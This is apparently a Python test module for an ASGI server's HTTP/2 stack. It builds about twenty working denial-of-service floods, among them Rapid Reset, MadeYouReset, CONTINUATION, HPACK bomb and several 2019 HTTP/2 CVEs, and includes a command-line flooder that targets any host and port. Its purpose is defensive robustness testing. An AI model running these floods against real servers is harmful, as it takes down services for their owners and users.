"""Floods of HTTP/2, and a process that floods: `python -m tests.h2_floods KIND HOST PORT PAUSE`.

It opens a connection, sends the flood until the server ends the connection or the flood is over, waits PAUSE seconds,
and begins again, until its stdin ends. Then it prints, as JSON, how many connections there were, how many bytes went
out, and how often each error code ended one. What is sent is made beforehand, so that the flooder needs little of the
processor that it shares with the server.
"""

from __future__ import annotations

import collections
import dataclasses
import itertools
import json
import select
import socket
import sys
from collections.abc import Callable, Iterable, Iterator
from typing import Any, Final

import hpack

from serve_asgi.http.h2 import frames
from serve_asgi.http.h2.frames import END_HEADERS, END_STREAM, PREFACE, frame

MANY: Final = 40_000
"""Frames of a flood that has no end of its own; none of them gets that far."""
PIECE: Final = 16_384
"""Bytes that are sent at once."""
MOST_PIECES: Final = 200
"""Of them, in the process that floods."""
ANSWER_TIMEOUT: Final = 20.0
"""Seconds without a byte of the server's after which the flooder gives up."""
CANCEL: Final = 8


def head(path: bytes = b"/", method: bytes = b"GET", *more: tuple[bytes, bytes]) -> bytes:
    """A header block that needs and changes no table."""
    fields = [(b":method", method), (b":scheme", b"http"), (b":authority", b"a"), (b":path", path), *more]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])


GET: Final = head()
POST: Final = head(b"/read", b"POST")
LARGE: Final = head(b"/large")
SETTINGS: Final = frames.settings_frame({})


def asks(block: bytes = GET, flags: int = END_HEADERS | END_STREAM) -> Iterator[tuple[int, bytes]]:
    """Requests, each with the number of its stream."""
    for stream in itertools.islice(itertools.count(1, 2), MANY):
        yield stream, frame(frames.HEADERS, flags, stream, block)


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487."""
    for stream, request in asks(LARGE):
        yield request + frames.reset_frame(stream, CANCEL)


def made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671: each request is followed by what makes the server reset it."""
    for stream, request in asks(LARGE):
        yield request + frame(frames.WINDOW_UPDATE, 0, stream, bytes(4))


def malformed() -> Iterator[bytes]:
    """Each request has a field that HTTP/2 forbids."""
    for _, request in asks(head(b"/", b"GET", (b"connection", b"close"))):
        yield request


def too_many_streams() -> Iterator[bytes]:
    """Requests that never end, far more at once than allowed."""
    for _, request in asks(POST, END_HEADERS):
        yield request


def continuations() -> Iterator[bytes]:
    """The CONTINUATION flood of 2024."""
    yield frame(frames.HEADERS, END_STREAM, 1, GET)
    yield from itertools.repeat(frame(frames.CONTINUATION, 0, 1, b""), MANY)


def large_continuations() -> Iterator[bytes]:
    yield frame(frames.HEADERS, END_STREAM, 1, GET)
    yield from itertools.repeat(frame(frames.CONTINUATION, 0, 1, b"\0\1a" + b"\x7f\x80\x7d" + bytes(16_000)), MANY)


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield frame(frames.HEADERS, END_HEADERS, 1, POST)
    yield from itertools.repeat(frame(frames.DATA, 0, 1, b""), MANY)


def padding() -> Iterator[bytes]:
    """DATA that is padding alone."""
    yield frame(frames.HEADERS, END_HEADERS, 1, POST)
    yield from itertools.repeat(frame(frames.DATA, frames.PADDED, 1, bytes((200,)) + bytes(200)), MANY)


def settings() -> Iterator[bytes]:
    """CVE-2019-9515."""
    return itertools.repeat(frames.settings_frame({4: 65_536}), MANY)


def pings() -> Iterator[bytes]:
    """CVE-2019-9512."""
    return itertools.repeat(frames.ping_frame(b"12345678", False), MANY)


def priority_updates() -> Iterator[bytes]:
    """Of streams that have not begun (RFC 9218 7.1), a new one each time."""
    for stream in itertools.islice(itertools.count(1, 2), MANY):
        yield frame(frames.PRIORITY_UPDATE, 0, 0, stream.to_bytes(4) + b"u=%d, i" % (stream % 8))


def priorities() -> Iterator[bytes]:
    """CVE-2019-9513."""
    return itertools.repeat(frame(frames.PRIORITY, 0, 1, (3).to_bytes(4) + b"\x10"), MANY)


def unknown_frames() -> Iterator[bytes]:
    return itertools.repeat(frame(0xEE, 0, 0, b"x"), MANY)


def window_updates() -> Iterator[bytes]:
    return itertools.repeat(frames.window_update_frame(0, 1), MANY)


def window_updates_of_a_stream() -> Iterator[bytes]:
    yield frame(frames.HEADERS, END_HEADERS, 1, POST)
    yield from itertools.repeat(frames.window_update_frame(1, 1), MANY)


def windows_of_one_byte() -> Iterator[bytes]:
    """CVE-2019-9511: a large response, asked for byte by byte."""
    yield frames.settings_frame({4: 1}) + frame(frames.HEADERS, END_HEADERS | END_STREAM, 1, LARGE)
    yield from itertools.repeat(frames.window_update_frame(1, 1), MANY)


def stalled_windows() -> Iterator[bytes]:
    """CVE-2019-9517: as many large responses as may be, and no window to send them in."""
    yield frames.settings_frame({4: 0})
    for _, request in itertools.islice(asks(LARGE), 100):
        yield request


def hpack_bomb() -> Iterator[bytes]:
    """CVE-2016-1544: one large entry in the table, named again and again in few bytes."""
    entry = b"\x40\x01a" + b"\x7f" + hpack_integer(4000 - 127) + b"x" * 4000
    yield frame(frames.HEADERS, END_HEADERS | END_STREAM, 1, GET + entry)
    for stream, _ in itertools.islice(asks(), 1, 500):
        yield frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, GET + b"\xbe" * 12_000)


def table_size_changes() -> Iterator[bytes]:
    """Changes of the table's size, one after the other in one block."""
    for stream, _ in asks():
        yield frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, b"\x20\x3f\xe1\x1f" * 4_000 + GET)


def table_sizes_in_settings() -> Iterator[bytes]:
    """The encoder's table made small and large again."""
    return itertools.cycle((frames.settings_frame({1: 0}), frames.settings_frame({1: 4096})))


def hpack_integer(value: int) -> bytes:
    """What follows a prefix of ones (RFC 7541 5.1)."""
    written = bytearray()
    while value >= 128:
        written.append(value % 128 + 128)
        value //= 128
    return bytes((*written, value))


@dataclasses.dataclass(frozen=True, slots=True)
class Flood:
    """A kind of flood, and the error code of the GOAWAY that ends it."""

    frames: Callable[[], Iterator[bytes]]
    code: int = 0xB
    pause: float = 1.0
    """Seconds after which the flooder is there again. Where each frame is a request, as many are served until the
    connection ends as in some 10 ms of an honest client's: that client comes back more rarely too."""


FLOODS: Final = {
    "rapid reset": Flood(rapid_reset, pause=3.0),
    "made you reset": Flood(made_you_reset, pause=3.0),
    "malformed requests": Flood(malformed, pause=3.0),
    "too many streams": Flood(too_many_streams, pause=3.0),
    "CONTINUATION": Flood(continuations),
    "large CONTINUATION": Flood(large_continuations),
    "empty DATA": Flood(empty_data),
    "padding": Flood(padding),
    "SETTINGS": Flood(settings),
    "PING": Flood(pings),
    "PRIORITY_UPDATE": Flood(priority_updates),
    "PRIORITY": Flood(priorities),
    "unknown frames": Flood(unknown_frames),
    "WINDOW_UPDATE": Flood(window_updates),
    "WINDOW_UPDATE of a stream": Flood(window_updates_of_a_stream),
    "windows of one byte": Flood(windows_of_one_byte),
    "HPACK bomb": Flood(hpack_bomb),
    "table size changes": Flood(table_size_changes, 0x9),
    "table sizes in SETTINGS": Flood(table_sizes_in_settings),
}
"""What ends by itself. Stalled windows, and connections that say nothing, end by a timeout."""


@dataclasses.dataclass(slots=True)
class Flooded:
    """What one connection has seen."""

    sent: int = 0
    code: int | None = None
    ended: bool = False
    """By the server."""


def pieces(flood: Iterator[bytes]) -> Iterator[bytes]:
    """What is sent at once."""
    gathered = bytearray()
    for each in flood:
        gathered += each
        if len(gathered) >= PIECE:
            yield bytes(gathered)
            gathered.clear()
    if gathered:
        yield bytes(gathered)


def attack(address: tuple[str, int], made: Iterable[bytes]) -> Flooded:
    """One connection: flood until the server ends it, and read what it says."""
    found, said = Flooded(), bytearray()
    with socket.create_connection(address, timeout=ANSWER_TIMEOUT) as connection:
        connection.sendall(PREFACE + SETTINGS + frames.settings_frame({}))
        try:
            for piece in made:
                connection.sendall(piece)
                found.sent += len(piece)
                while select.select([connection], [], [], 0)[0]:
                    if not (data := connection.recv(1 << 16)):
                        found.ended = True
                        break
                    said += data
                if found.ended:
                    break
            while not found.ended and (data := connection.recv(1 << 16)):
                said += data
            found.ended = True
        except (BrokenPipeError, ConnectionResetError):
            found.ended = True
            try:
                while data := connection.recv(1 << 16):
                    said += data
            except OSError:
                pass
        except TimeoutError:
            pass
    found.code = last_goaway(bytes(said))
    return found


def last_goaway(said: bytes) -> int | None:
    """The error code of the last GOAWAY among the frames that the server has sent."""
    code = None
    while len(said) >= 9:
        end = 9 + int.from_bytes(said[:3])
        if said[3] == frames.GOAWAY and len(said) >= end:
            code = int.from_bytes(said[13:17])
        said = said[end:]
    return code


def main() -> None:
    """Flood until stdin ends."""
    kind, host, port, pause = sys.argv[1:]
    codes: collections.Counter[str] = collections.Counter()
    told: dict[str, Any] = {"connections": 0, "sent": 0}
    made = list(itertools.islice(pieces(FLOODS[kind].frames()), MOST_PIECES))
    print("floods", flush=True)
    while not told["connections"] or not select.select([sys.stdin], [], [], float(pause))[0]:
        found = attack((host, int(port)), made)
        codes[str(found.code) if found.ended else "not ended"] += 1
        told["connections"] += 1
        told["sent"] += found.sent
    print(json.dumps({**told, "codes": codes}), flush=True)


if __name__ == "__main__":
    main()
